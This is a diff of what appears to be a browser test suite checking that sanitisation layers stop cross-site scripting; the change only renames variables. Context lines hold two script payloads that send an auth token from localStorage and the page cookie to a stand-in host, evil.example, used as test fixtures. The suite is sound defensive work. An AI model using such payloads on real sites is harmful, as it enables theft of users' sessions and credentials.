@@ -26,21 +26,21 @@ test('without any layer of defence the attacks succeed and are detected', async 
   await attackPage.show(simplePayloads);
   await attackPage.show([`<script>new Image().src = 'https://evil.example/?' + localStorage.getItem('sb-canary-auth-token')</script>`]);
   await attackPage.show(['<script>fetch("https://evil.example/", { method: "POST", body: parent.document.cookie })</script>']);
-  expect(attackPage.damage.executions.filter((seen) => seen.startsWith('alert')).length).toBeGreaterThanOrEqual(4);
-  expect(attackPage.damage.executions.filter((seen) => seen.startsWith('script')).length).toBeGreaterThanOrEqual(6);
-  expect(attackPage.damage.stolen.filter((seen) => seen.startsWith('token sent')).length).toBeGreaterThanOrEqual(2);
+  expect(attackPage.damage.executions.filter((entry) => entry.startsWith('alert')).length).toBeGreaterThanOrEqual(4);
+  expect(attackPage.damage.executions.filter((entry) => entry.startsWith('script')).length).toBeGreaterThanOrEqual(6);
+  expect(attackPage.damage.stolen.filter((entry) => entry.startsWith('token sent')).length).toBeGreaterThanOrEqual(2);
   await attackPage.close();
 });
 
 for (const layer of layers) {
   test(`${layer.name} stops every attack`, async ({ browser }) => {
     const attackPage = await openAttackPage(browser, layer);
-    let shown = 0;
+    let shownCount = 0;
     for (let at = 0; at < hostile.length; at += BATCH_SIZE) {
       const documents = hostile.slice(at, at + BATCH_SIZE).map((page) => layer.document(page));
       const delivered = documents.filter((html) => html !== null);
       await attackPage.show(delivered);
-      shown += delivered.length;
+      shownCount += delivered.length;
       expect(attackPage.damage, `pages ${at} to ${at + BATCH_SIZE}`).toEqual({
         executions: [],
         stolen: [],
@@ -48,8 +48,8 @@ for (const layer of layers) {
         residue: [],
       });
     }
-    console.log(`${layer.name}: ${shown} pages shown, ${hostile.length - shown} refused, 0 executions, 0 tokens read`);
-    expect(shown).toBeGreaterThan(hostile.length * 0.95);
+    console.log(`${layer.name}: ${shownCount} pages shown, ${hostile.length - shownCount} refused, 0 executions, 0 tokens read`);
+    expect(shownCount).toBeGreaterThan(hostile.length * 0.95);
     await attackPage.close();
   });
 }
